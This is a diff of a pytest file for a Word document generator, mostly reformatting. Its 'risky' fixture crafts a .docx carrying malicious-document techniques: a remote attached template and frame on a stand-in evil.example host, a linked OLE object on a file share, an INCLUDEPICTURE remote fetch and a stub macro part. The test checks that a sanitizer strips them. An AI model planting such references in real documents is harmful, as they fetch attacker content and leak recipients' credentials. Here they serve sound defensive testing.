@@ -12,7 +12,7 @@ from pathlib import Path
 import docx
 import pytest
 import test_writer_untrusted as crafting
-from samples import no_stray_config, run_tjs, write  # noqa: F401 - the fixture is autouse
+from samples import run_tjs, write
 
 CASE = """\
 diarienummer: KS 2021/123
@@ -56,7 +56,7 @@ def rendered(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
 def test_quote_footnotes_break_and_strikethrough_in_word(rendered: Path, capsys: pytest.CaptureFixture[str]) -> None:
     document = docx.Document(str(rendered))
     quote = [p for p in document.paragraphs if p.text.startswith("Om de kläder")]
-    assert [p.style.name for p in quote] == ["Quote"]
+    assert [getattr(p.style, "name", None) for p in quote] == ["Quote"]
     assert quote[0].text == "Om de kläder som bärs i tjänsten anses vara arbetskläder."
 
     broken = next(p for p in document.paragraphs if p.text.startswith("Första raden"))
@@ -77,8 +77,9 @@ def test_quote_footnotes_break_and_strikethrough_in_word(rendered: Path, capsys:
 
 
 @pytest.mark.libreoffice
-@pytest.mark.skipif(shutil.which("soffice") is None or shutil.which("pdftotext") is None,
-                    reason="needs LibreOffice and pdftotext")
+@pytest.mark.skipif(
+    shutil.which("soffice") is None or shutil.which("pdftotext") is None, reason="needs LibreOffice and pdftotext"
+)
 def test_the_pdf_shows_the_footnotes_at_the_foot_of_the_page(rendered: Path) -> None:
     from tjansteskrivelse.pdf import convert_to_pdf
 
@@ -103,27 +104,42 @@ def risky(parts: dict[str, bytes]) -> None:
     rt, r_ns = crafting.RT, crafting.R_NS
 
     def rels(target: str, kind: str) -> bytes:
-        return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-                f'<Relationship Id="rId1" Type="{rt}/{kind}" Target="{target}" TargetMode="External"/>'
-                "</Relationships>").encode()
+        return (
+            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            f'<Relationship Id="rId1" Type="{rt}/{kind}" Target="{target}" TargetMode="External"/>'
+            "</Relationships>"
+        ).encode()
 
     parts["word/_rels/settings.xml.rels"] = rels("http://evil.example/t.dotm", "attachedTemplate")
     crafting.insert(parts, "word/settings.xml", "<w:defaultTabStop", f'<w:attachedTemplate {r_ns} r:id="rId1"/>')
     parts["word/_rels/webSettings.xml.rels"] = rels("http://evil.example/f.html", "frame")
-    crafting.insert(parts, "word/webSettings.xml", "<w:allowPNG",
-                    f'<w:frameset><w:frame><w:sourceFileName {r_ns} r:id="rId1"/></w:frame></w:frameset>')
+    crafting.insert(
+        parts,
+        "word/webSettings.xml",
+        "<w:allowPNG",
+        f'<w:frameset><w:frame><w:sourceFileName {r_ns} r:id="rId1"/></w:frame></w:frameset>',
+    )
     parts["word/_rels/header1.xml.rels"] = rels("file://server/share/x.xlsx", "oleObject")
-    crafting.insert(parts, "word/header1.xml", "</w:hdr>",
-                    '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
-                    f'{r_ns} Type="Link" ProgID="Excel.Sheet.12" r:id="rId1"/></w:object></w:r></w:p>')
-    crafting.insert(parts, "word/footer1.xml", "</w:ftr>",
-                    '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/a.png&quot; ">'
-                    "<w:r><w:t>bild</w:t></w:r></w:fldSimple></w:p>")
+    crafting.insert(
+        parts,
+        "word/header1.xml",
+        "</w:hdr>",
+        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
+        f'{r_ns} Type="Link" ProgID="Excel.Sheet.12" r:id="rId1"/></w:object></w:r></w:p>',
+    )
+    crafting.insert(
+        parts,
+        "word/footer1.xml",
+        "</w:ftr>",
+        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/a.png&quot; ">'
+        "<w:r><w:t>bild</w:t></w:r></w:fldSimple></w:p>",
+    )
     parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
     vba = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
-    crafting.add_rel(parts, "word/_rels/document.xml.rels",
-                     f'<Relationship Id="rId99" Type="{vba}" Target="vbaProject.bin"/>')
+    crafting.add_rel(
+        parts, "word/_rels/document.xml.rels", f'<Relationship Id="rId99" Type="{vba}" Target="vbaProject.bin"/>'
+    )
 
 
 def test_a_risky_reference_is_stripped_with_a_warning_for_each_part(tmp_path, capsys):
